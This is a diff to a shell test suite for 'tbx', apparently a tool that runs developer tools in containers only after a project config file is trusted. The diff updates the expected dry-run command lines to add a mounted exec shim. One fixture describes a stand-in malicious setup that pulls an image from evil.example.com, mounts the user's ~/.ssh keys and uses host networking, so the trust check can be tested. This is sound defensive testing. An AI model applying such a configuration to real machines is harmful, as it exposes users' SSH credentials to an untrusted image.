@@ -38,7 +38,7 @@ test_case 'tbx trust applies all of it; an edit makes the file untrusted again; 
     image evil.example.com/steal
     mount $HOME/.ssh -> /root/.ssh, read-only" "$out"
 	line=$(TBX_DRY_RUN=1 "$SHIMS/cat")
-	check_match "* --mount type=bind,src=$HOME/.ssh,dst=/root/.ssh,readonly --network host -- evil.example.com/steal:2 cat" "$line"
+	check_match "* --mount type=bind,src=$HOME/.ssh,dst=/root/.ssh,readonly --network host --mount type=bind,src=$SHIMS/cat,dst=/run/tbx/exec,readonly -- evil.example.com/steal:2 /run/tbx/exec probe@2 cat" "$line"
 	test "$(stat -c %a "$HOME/.local/state/tbx/trusted")" = 600
 	echo "# one more line" >>.toolbox
 	run env TBX_DRY_RUN=1 "$SHIMS/cat"; check_status 125
@@ -63,10 +63,10 @@ test_case 'tbx trust applies all of it; an edit makes the file untrusted again; 
 test_case 'env and network apply once trusted; versions alone never ask; unknown keys name file:line' '
 	install_probe
 	printf "[tools]\nprobe = 2\n" >.toolbox
-	check_match "*tbx-test/probe:2 cat" "$(TBX_DRY_RUN=1 "$SHIMS/cat")"
+	check_match "*tbx-test/probe:2 /run/tbx/exec probe@2 cat" "$(TBX_DRY_RUN=1 "$SHIMS/cat")"
 	printf "[tools]\nprobe = 2\n[tool.probe]\nenv.GOFLAGS = -mod=vendor\nnetwork = none\n" >.toolbox
 	"$TBX" trust >/dev/null
-	check_match "* -e GOFLAGS=-mod=vendor --network none -- tbx-test/probe:2 cat" "$(TBX_DRY_RUN=1 "$SHIMS/cat")"
+	check_match "* -e GOFLAGS=-mod=vendor --network none --mount type=bind,src=$SHIMS/cat,dst=/run/tbx/exec,readonly -- tbx-test/probe:2 /run/tbx/exec probe@2 cat" "$(TBX_DRY_RUN=1 "$SHIMS/cat")"
 	printf "[tools]\nprobe = 2\n[tool.probe]\nprivileged = true\n" >.toolbox
 	run env TBX_DRY_RUN=1 "$SHIMS/cat"; check_status 125
 	check_one_error "probe: $T/work/.toolbox:4: unknown key *privileged* (image, network, mounts, env.NAME, warm)"
